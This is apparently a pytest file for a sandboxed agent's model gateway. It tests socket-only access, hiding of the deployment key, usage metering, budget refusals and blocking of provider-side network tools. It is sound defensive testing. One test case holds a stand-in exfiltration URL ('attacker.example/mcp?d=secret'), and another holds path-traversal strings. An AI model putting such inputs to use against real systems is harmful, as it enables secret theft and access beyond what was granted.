"""The model gateway of CLI agents (docs/API.md): a CLI reaches the model only through
its session's socket (the socket is its credential), only during a run, never with the
deployment's key, and every answer is metered from the upstream's own figures."""

from __future__ import annotations

import json
import os
import stat

import aiohttp
import anthropic
import httpx2
import pytest
from django.test import AsyncClient

from agent.core.loop import CallRefused
from agent.runs import llm_gateway
from agent.runs.llm_gateway import PREFIX, open_gateway
from agent.runs.llm_metering import MAX_LINE, Meter
from testkit.model_server import HttpError, message_reply, text_reply
from tests.runs.gateway_calls import (
    DEPLOYMENT_KEY,
    hang_up_after_first_bytes,
    metered_into,
    socket_of,
)


async def call(gateway, path="/v1/messages", body=None, headers=None, method="POST"):
    """One request over the session's socket, as the in-sandbox forwarder relays it."""
    connector = aiohttp.UnixConnector(path=socket_of(gateway))
    async with aiohttp.ClientSession(connector=connector) as session:
        sent = {"x-api-key": llm_gateway.PLACEHOLDER_KEY, "anthropic-version": "2023-06-01",
                **(headers or {})}  # fmt: skip
        data = json.dumps(body or {"model": "claude-haiku-4-5", "max_tokens": 50,
                                   "stream": True, "messages": []}).encode()  # fmt: skip
        async with session.request(method, f"http://gw{PREFIX}{path}", data=data,
                                   headers=sent) as response:  # fmt: skip
            return response.status, dict(response.headers), await response.read()


async def test_a_call_goes_upstream_with_the_deployments_key_and_streams_back(gateway, upstream):
    usage = metered_into(gateway)
    upstream.enqueue(text_reply("hello from upstream"))
    status, headers, body = await call(gateway, "/v1/messages?beta=true",
                                       headers={"authorization": "Bearer cli-token"})  # fmt: skip
    assert status == 200 and headers["Content-Type"].startswith("text/event-stream")
    assert b"hello fr" in body and b"message_stop" in body
    sent = upstream.requests[0]
    assert sent["path"] == "/v1/messages?beta=true"
    lowered = {k.lower(): v for k, v in sent["headers"].items()}
    assert lowered["x-api-key"] == DEPLOYMENT_KEY
    assert "authorization" not in lowered  # the CLI's own credentials stay here
    assert llm_gateway.PLACEHOLDER_KEY not in json.dumps(sent["headers"])
    assert len(usage) == 1
    assert (usage[0].input_tokens, usage[0].output_tokens) == (10, 20)
    assert usage[0].cost_usd > 0


async def test_the_real_sdk_through_the_socket_is_answered_and_metered(gateway, upstream):
    usage = metered_into(gateway)
    upstream.enqueue(text_reply("through the gateway"))
    transport = httpx2.AsyncHTTPTransport(uds=socket_of(gateway))
    client = anthropic.AsyncAnthropic(api_key=llm_gateway.PLACEHOLDER_KEY, base_url=f"http://gw{PREFIX}",
                                      http_client=httpx2.AsyncClient(transport=transport),
                                      max_retries=0)  # fmt: skip
    async with client.messages.stream(
        model="claude-haiku-4-5", max_tokens=50, messages=[{"role": "user", "content": "hi"}]
    ) as stream:
        text = await stream.get_final_text()
    assert text == "through the gateway"
    assert [u.output_tokens for u in usage] == [20]


async def test_a_non_streamed_answer_is_metered_from_its_usage(gateway, upstream):
    usage = metered_into(gateway)
    upstream.enqueue(message_reply("a summary", input_tokens=700, output_tokens=70))
    status, _, body = await call(gateway, body={"model": "claude-haiku-4-5", "max_tokens": 9,
                                                "messages": []})  # fmt: skip
    assert status == 200 and json.loads(body)["content"][0]["text"] == "a summary"
    assert [(u.input_tokens, u.output_tokens) for u in usage] == [(700, 70)]


async def test_counting_tokens_is_forwarded_and_not_metered(gateway, upstream):
    usage = metered_into(gateway)
    upstream.enqueue(message_reply("ignored"))
    status, _, _ = await call(gateway, "/v1/messages/count_tokens")
    assert status == 200 and upstream.requests[0]["path"] == "/v1/messages/count_tokens"
    assert usage == []


@pytest.mark.parametrize("key", [None, "", "hgw-guessed", "sk-someone-elses-key"])
async def test_the_socket_is_the_credential_and_a_presented_key_goes_nowhere(gateway, upstream,
                                                                             key):  # fmt: skip
    """Nothing a CLI presents is checked or passed on: the socket bound into its sandbox is
    what lets it in, so there is no key in the sandbox worth stealing."""
    metered_into(gateway)
    upstream.enqueue(message_reply("answered"))
    headers = {"x-api-key": key} if key is not None else {"x-api-key": ""}
    status, _, _ = await call(gateway, headers=headers)
    assert status == 200
    sent = {k.lower(): v for k, v in upstream.requests[0]["headers"].items()}
    assert sent["x-api-key"] == DEPLOYMENT_KEY


async def test_a_call_the_runs_budget_refuses_gets_a_403_naming_it_and_is_not_retried(
    gateway, upstream
):
    asked = []

    async def budget_spent():  # the run's guard (agent/runs/spend.py) with the budget spent
        asked.append(1)
        raise CallRefused("budget_exceeded", "This month's budget of $5.00 is spent.")

    usage = []
    gateway.begin_run("run-1", on_usage=usage.append, guard=budget_spent)
    transport = httpx2.AsyncHTTPTransport(uds=socket_of(gateway))
    client = anthropic.AsyncAnthropic(api_key=llm_gateway.PLACEHOLDER_KEY, base_url=f"http://gw{PREFIX}",
                                      http_client=httpx2.AsyncClient(transport=transport),
                                      max_retries=2)  # fmt: skip
    with pytest.raises(anthropic.PermissionDeniedError) as refused:  # what a CLI shows
        await client.messages.create(model="claude-haiku-4-5", max_tokens=50,
                                     messages=[{"role": "user", "content": "hi"}])  # fmt: skip
    assert "budget of $5.00 is spent" in str(refused.value)
    assert asked == [1] and upstream.requests == [] and usage == []  # not retried, not sent
    upstream.enqueue(message_reply("counted"))
    status, _, _ = await call(gateway, "/v1/messages/count_tokens")  # free: not asked
    assert status == 200 and asked == [1]


async def test_outside_a_run_the_credential_gets_nothing(gateway, upstream):
    status, _, body = await call(gateway)  # no run began
    assert status == 403 and "No run" in json.loads(body)["error"]["message"]
    gateway.begin_run("run-1", guard=None)
    gateway.end_run()
    status, _, _ = await call(gateway)
    assert status == 403 and upstream.requests == []


@pytest.mark.parametrize("path", ["/v1/models", "/v1/files", "/v1/messages/batches",
                                  "/v1/messages/../files", "/../v1/messages", ""])  # fmt: skip
async def test_only_the_messages_endpoints_are_reachable(gateway, upstream, path):
    metered_into(gateway)
    status, _, _ = await call(gateway, path)
    assert status == 404 and upstream.requests == []


async def test_an_upstream_error_is_passed_back_unmetered(gateway, upstream):
    usage = metered_into(gateway)
    upstream.enqueue(HttpError(529, "overloaded_error", "Overloaded"))
    status, _, body = await call(gateway)
    assert status == 529 and json.loads(body)["error"]["type"] == "overloaded_error"
    assert usage == []


async def test_without_a_model_key_the_cli_is_told_why(gateway, upstream, settings):
    metered_into(gateway)
    settings.ANTHROPIC_API_KEY = None
    status, _, body = await call(gateway)
    assert status == 503 and "ANTHROPIC_API_KEY" in json.loads(body)["error"]["message"]


async def test_the_clis_environment_and_mounts_hold_no_deployment_key(gateway):
    seen = json.dumps([gateway.env, gateway.bwrap_args(), gateway.wrap_command(["claude"])])
    assert DEPLOYMENT_KEY not in seen
    assert gateway.env["ANTHROPIC_API_KEY"] == llm_gateway.PLACEHOLDER_KEY
    assert gateway.env["ANTHROPIC_BASE_URL"].startswith("http://127.0.0.1:")


async def test_the_socket_is_private_to_the_session(gateway):
    mode = os.stat(socket_of(gateway)).st_mode
    assert stat.S_ISSOCK(mode) and stat.S_IMODE(mode) == 0o600
    assert stat.S_IMODE(os.stat(gateway._directory).st_mode) == 0o700


async def test_a_closed_gateway_is_gone(upstream):
    gateway = await open_gateway("c0ffee00-0000-4000-8000-000000000002", 7)
    directory = gateway._directory
    await gateway.close()
    await llm_gateway.close_upstream()
    assert not os.path.exists(directory)


async def test_the_http_face_answers_nobody_even_during_a_run(gateway, upstream):
    """A key copied out of a sandbox (there is none) or guessed gets nothing over HTTP."""
    client = AsyncClient()
    url = f"{PREFIX}/v1/messages"
    body = json.dumps({"model": "claude-haiku-4-5", "max_tokens": 5, "messages": []})
    metered_into(gateway)
    for key in ("hgw-not-ours", llm_gateway.PLACEHOLDER_KEY, DEPLOYMENT_KEY):
        refused = await client.post(url, body, content_type="application/json",
                                    headers={"x-api-key": key})  # fmt: skip
        assert refused.status_code == 401
    assert upstream.requests == []


def test_the_meter_reads_running_totals_and_survives_hostile_streams():
    meter = Meter(streamed=True)
    stream = (
        b'event: message_start\ndata: {"type":"message_start","message":{"model":"claude-x",'
        b'"usage":{"input_tokens":12,"cache_read_input_tokens":5,"output_tokens":1}}}\n\n'
        b"data: not json at all message_delta\n"
        b'data: {"type":"message_delta","usage":{"output_tokens":-4}}\n'
        b'data: {"type":"message_delta","usage":{"output_tokens":true}}\n'
        b'data: {"type":"message_delta","usage":"nope"}\n'
        + b"data: "
        + b"x" * (MAX_LINE + 10)  # a runaway partial line is dropped
        + b'\ndata: {"type":"message_delta","usage":{"output_tokens":33}}\n\n'
    )
    for start in range(0, len(stream), 7):  # split anywhere, even inside a line
        meter.feed(stream[start : start + 7])
    assert meter.model == "claude-x"
    assert meter.counts() == {
        "input_tokens": 12,
        "output_tokens": 33,
        "cache_read_input_tokens": 5,
        "cache_creation_input_tokens": 0,
    }
    assert Meter(streamed=True).counts() is None
    broken = Meter(streamed=False)
    broken.feed(b'{"usage": {"input_tokens": 1')
    assert broken.counts() is None


async def test_a_cli_that_hangs_up_mid_answer_still_pays_for_what_was_asked(gateway, upstream):
    body = {"model": "claude-haiku-4-5", "max_tokens": 50, "stream": True, "messages": []}
    headers = {"x-api-key": llm_gateway.PLACEHOLDER_KEY}
    usage = await hang_up_after_first_bytes(gateway, upstream, f"{PREFIX}/v1/messages", body,
                                            headers)  # fmt: skip
    assert [u.input_tokens for u in usage] == [10]  # message_start's count: asked, so paid


@pytest.mark.parametrize("headers, body", [
    ({"anthropic-beta": "mcp-client-2025-04-04"}, {}),
    ({"anthropic-beta": "interleaved-thinking-2025-05-14, web-fetch-2025-09-10"}, {}),
    ({}, {"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp?d=secret"}]}),
    ({}, {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
    ({}, {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
    ({}, {"tools": [{"type": "code_execution_20250522", "name": "code_execution"}]}),
    ({}, {"container": "container_abc"}),
])  # fmt: skip
async def test_the_provider_reaches_no_network_for_the_sandbox(gateway, upstream, headers,
                                                               body):  # fmt: skip
    """Code in a sandbox with no network must not have the provider fetch a URL, call an
    MCP server or run code for it (with the deployment's key, outside the budget)."""
    metered_into(gateway)
    request = {"model": "claude-haiku-4-5", "max_tokens": 50, "messages": [], **body}
    status, _, answer = await call(gateway, body=request, headers=headers)
    assert status == 400 and "not available" in json.loads(answer)["error"]["message"]
    assert upstream.requests == []


async def test_client_tools_and_harmless_betas_still_pass(gateway, upstream):
    metered_into(gateway)
    upstream.enqueue(message_reply("fine"))
    request = {"model": "claude-haiku-4-5", "max_tokens": 50, "messages": [],
               "tools": [{"name": "Bash", "input_schema": {"type": "object"}}]}  # fmt: skip
    status, _, _ = await call(
        gateway, body=request, headers={"anthropic-beta": "interleaved-thinking-2025-05-14"}
    )
    assert status == 200 and len(upstream.requests) == 1
